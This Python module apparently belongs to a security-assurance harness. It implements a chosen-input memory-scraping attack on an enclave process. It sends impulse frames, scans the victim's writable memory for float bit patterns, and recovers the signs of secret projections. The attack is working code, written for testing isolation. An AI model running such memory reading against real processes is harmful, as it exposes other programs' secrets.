"""Activations (F3): a query's intermediate values are in ordinary memory, so chosen frames reveal messages.

The projection of a black frame with one white pixel on a message is that pixel's sign times 255 / D. These numbers are
recognised by their bits; those of all classes lie side by side.
"""

from __future__ import annotations

import struct
from collections.abc import Sequence

from assurance.root.attacker.attacks import Attack, Outcome
from assurance.root.attacker.linux import ProcMem, everything, mappings
from assurance.root.attacker.victim import Victim

_PIXELS = 16
_FULL = 255
_LEAST_CLASSES = 3
_NEAR = 64
_CHUNK = 1 << 16
_VALUES = {
    int.from_bytes(struct.pack("<f", sign * _FULL / (1 << power)), "little"): (power, sign)
    for power in range(17)
    for sign in (1, -1)
}
"""+-255 / D for every D, as bits."""
_PAIRS = frozenset(
    one | other << 32 for one, (step, _) in _VALUES.items() for other, (same, _) in _VALUES.items() if step == same
)


class _Reader:
    """Looks for runs in an enclave's own memory; where one was found is looked at first, since places stay."""

    def __init__(self, pid: int) -> None:
        self._memory = ProcMem(pid)
        self._areas = [area for area in mappings(pid) if area.writable]
        self._places: set[int] = set()

    def signs(self) -> list[int]:
        """The longest run of projections, as +1 and -1; empty when there is none."""
        best = max((_longest(self._memory.read(at, 4 * _NEAR))[1] for at in self._places), key=len, default=[])
        if best:
            return best
        for at, data in everything(self._memory, self._areas):
            place, found = _longest(data)
            if len(found) > len(best):
                best = found
                self._places.add(at + place)
        return best


def _longest(data: bytes) -> tuple[int, list[int]]:
    """Where the longest run of projections begins, and its signs."""
    words = memoryview(data)[: len(data) // 8 * 8].cast("Q")
    values = words.cast("B").cast("I")
    best: tuple[int, list[int]] = (0, [])
    for start in range(0, len(words), _CHUNK):
        part = words[start : start + _CHUNK]
        if _PAIRS.isdisjoint(part):
            continue
        for i in (i for i, word in enumerate(part, start) if word in _PAIRS):
            at, run = _run(values, 2 * i)
            if len(run) > max(len(best[1]), _LEAST_CLASSES - 1):
                best = 4 * at, run
    return best


def _run(values: Sequence[int], at: int) -> tuple[int, list[int]]:
    """The values around a place that have the same magnitude."""
    step, _ = _VALUES[values[at]]
    first = last = at
    while first > 0 and _VALUES.get(values[first - 1], (None, 0))[0] == step:
        first -= 1
    while last + 1 < len(values) and _VALUES.get(values[last + 1], (None, 0))[0] == step:
        last += 1
    return first, [_VALUES[values[i]][1] for i in range(first, last + 1)]


def activations(victim: Victim) -> Outcome:
    """Asks a black frame and one impulse for each of some pixels, and reads the signs of the messages there."""
    reader = _Reader(victim.enclave())
    signs = {}
    for pixel in range(0, victim.pixels, max(1, victim.pixels // _PIXELS)):
        frame = bytearray(victim.pixels)
        frame[pixel] = _FULL
        victim.patiently(bytes(victim.pixels))
        victim.patiently(bytes(frame))
        signs[str(pixel)] = reader.signs()
    read = sum(1 for found in signs.values() if found)
    return Outcome(read > 0, f"projections of {read} of {len(signs)} pixels read", 0, {"signs": signs})


ATTACKS = (Attack("activations", "F3", activations, seconds=20, everywhere=True),)
